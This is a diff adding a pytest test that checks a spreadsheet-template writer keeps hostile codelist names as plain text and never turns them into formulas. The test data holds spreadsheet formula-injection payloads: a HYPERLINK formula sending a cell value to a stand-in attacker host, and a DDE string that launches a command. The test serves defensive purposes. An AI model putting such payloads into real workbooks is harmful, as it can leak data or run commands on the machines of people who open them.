@@ -294,3 +294,35 @@ def test_templates_main(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
     assert templates_main(argparse.Namespace(out=blocker, config=None)) == 2
     missing = tmp_path / "missing.yaml"
     assert templates_main(argparse.Namespace(out=out, config=missing)) == 2
+
+
+def test_codelist_text_is_never_a_formula(tmp_path: Path):
+    """Codes and names come from codelist files: a hostile name stays text in the workbook."""
+    hostile = [
+        ("AA", '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")'),
+        ("BB", "+SUM(1,2)"),
+        ("=1+1", "@cmd|' /C calc'!A0"),
+        ('C"C', "-2+3"),
+    ]
+    choices = TemplateChoices(countries=hostile, sectors=hostile, currencies=hostile)
+    path = tmp_path / "t.xlsx"
+    write_xlsx_template(model.partner_submission(), path, choices)
+    workbook = load_workbook(path)
+    formulas = [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    lists = workbook["lists"]
+    values = {cell.value for row in lists.iter_rows() for cell in row}
+    assert {code for code, _ in hostile} <= values
+    assert {name for _, name in hostile} <= values
+    # Every inline drop-down is one well-formed quoted list.
+    for sheet in workbook.worksheets:
+        for validation in sheet.data_validations.dataValidation:
+            formula = validation.formula1 or ""
+            if formula.startswith('"'):
+                assert formula.count('"') == 2, formula
